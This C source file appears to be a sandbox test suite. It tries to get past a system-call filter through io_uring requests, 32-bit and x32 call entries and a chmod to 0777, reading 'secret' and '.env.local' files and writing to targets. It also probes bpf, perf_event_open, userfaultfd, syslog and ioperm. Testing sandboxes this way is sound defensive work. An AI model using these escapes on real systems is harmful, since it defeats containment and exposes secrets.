/* Ways around a filter of system calls, and calls that open the kernel wide. */
#include "attack.h"
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <sys/timex.h>

#define SECRET "outside/secret.txt"

/* One request through a ring of two entries; returns its result. */
static int ring_request(struct io_uring_sqe *request) {
    struct io_uring_params params = {0};
    int ring = (int)syscall(425, 2, &params);
    if (ring < 0) fail("io_uring_setup");
    size_t size = params.sq_off.array + params.sq_entries * 4 + params.cq_off.cqes + params.cq_entries * 16 + 4096;
    char *sq = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, 0);
    char *cq = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, 0x8000000);
    struct io_uring_sqe *entries = mmap(NULL, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, 0x10000000);
    if (sq == MAP_FAILED || cq == MAP_FAILED || entries == MAP_FAILED) fail("mmap ring");
    entries[0] = *request;
    ((unsigned *)(sq + params.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(sq + params.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(426, ring, 1, 1, 1 /* GETEVENTS */, NULL, 0) < 0) fail("io_uring_enter");
    return ((struct io_uring_cqe *)(cq + params.cq_off.cqes))[0].res;
}

static void uring_read(void) {
    struct io_uring_sqe request = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)at(SECRET), .open_flags = O_RDONLY};
    int fd = ring_request(&request);
    if (fd < 0) errno = -fd, fail("io_uring openat");
    print_descriptor(fd);
}

static void uring_write(void) {
    struct io_uring_sqe request = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)at("outside/target.txt"), .open_flags = O_WRONLY | O_TRUNC};
    int fd = ring_request(&request);
    if (fd < 0) errno = -fd, fail("io_uring openat");
    put(fd, token);
}

static void uring_connect(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", at("sock/victim.sock"));
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct io_uring_sqe request = {.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&address, .off = sizeof address};
    int result = ring_request(&request);
    if (result < 0) errno = -result, fail("io_uring connect");
    print_descriptor(fd);
}

/* A glob-denied name of the workspace: only the broker stands in the way, and it sees system calls. */
static void uring_glob(void) {
    struct io_uring_sqe request = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t) "sub/.env.local", .open_flags = O_RDONLY};
    int fd = ring_request(&request);
    if (fd < 0) errno = -fd, fail("io_uring openat");
    print_descriptor(fd);
}

#ifdef __x86_64__
/* The 32-bit entry has other numbers: a filter that ignores the architecture lets them pass. */
static long int80(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static char *low_copy(const char *text) {
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) fail("mmap");
    return strcpy(low, text);
}

static void compat_read(void) {
    long fd = int80(5 /* open */, (long)low_copy(at(SECRET)), O_RDONLY, 0);
    if (fd < 0) errno = (int)-fd, fail("int 0x80 open");
    print_descriptor((int)fd);
}

static void compat_glob(void) {
    long fd = int80(5 /* open */, (long)low_copy("sub/.env.local"), O_RDONLY, 0);
    if (fd < 0) errno = (int)-fd, fail("int 0x80 open");
    print_descriptor((int)fd);
}

static void compat_chmod(void) {
    long result = int80(15 /* chmod */, (long)low_copy(at("outside/target.txt")), 0777, 0);
    if (result < 0) errno = (int)-result, fail("int 0x80 chmod");
}

static void x32_read(void) {
    long fd = syscall(0x40000000 | 2 /* open */, at(SECRET), O_RDONLY, 0);
    if (fd < 0) fail("x32 open");
    print_descriptor((int)fd);
}
#else
static void absent(void) { fail("not on this architecture"); }
#define compat_read absent
#define compat_glob absent
#define compat_chmod absent
#define x32_read absent
#endif

static void bpf_map(void) {
    union bpf_attr attr = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    if (syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr) < 0) fail("bpf");
    printf("got bpf\n");
}

static void perf(void) {
    struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr, .config = PERF_COUNT_SW_TASK_CLOCK, .exclude_kernel = 1};
    if (syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0) < 0) fail("perf_event_open");
    printf("got perf_event_open\n");
}

/* Stops the kernel in the middle of reading our memory: the tool of choice for winning races. */
static void uffd(void) {
    if (syscall(SYS_userfaultfd, UFFD_USER_MODE_ONLY | O_CLOEXEC) < 0) fail("userfaultfd");
    printf("got userfaultfd\n");
}

static void kernel_log(void) {
    static char text[4096];
    if (syscall(SYS_syslog, 3 /* READ_ALL */, text, sizeof text) <= 0) fail("syslog");
    printf("got syslog\n");
}

/* Sets an error estimate of the clock to the value it has. */
static void clock_adjust(void) {
    struct timex now = {.modes = 0};
    if (adjtimex(&now) < 0) fail("adjtimex");
    now.modes = ADJ_ESTERROR;
    if (adjtimex(&now) < 0) fail("adjtimex");
    printf("got adjtimex\n");
}

/* To the name that it has. */
static void host_name(void) {
    char name[256];
    if (gethostname(name, sizeof name) || sethostname(name, strlen(name))) fail("sethostname");
    printf("got sethostname\n");
}

#ifdef __x86_64__
static void io_ports(void) {
    if (syscall(SYS_ioperm, 0x80, 1, 1)) fail("ioperm");
    printf("got ioperm\n");
}
#else
#define io_ports absent
#endif

const struct attack SYSCALLS[] = {
    {"uring-read", uring_read},
    {"uring-write", uring_write},
    {"uring-connect", uring_connect},
    {"uring-glob", uring_glob},
    {"compat-read", compat_read},
    {"compat-glob", compat_glob},
    {"compat-chmod", compat_chmod},
    {"x32-read", x32_read},
    {"syscall-bpf", bpf_map},
    {"syscall-perf", perf},
    {"syscall-userfaultfd", uffd},
    {"syscall-kernel-log", kernel_log},
    {"syscall-clock", clock_adjust},
    {"syscall-hostname", host_name},
    {"syscall-io-ports", io_ports},
    {NULL, NULL},
};
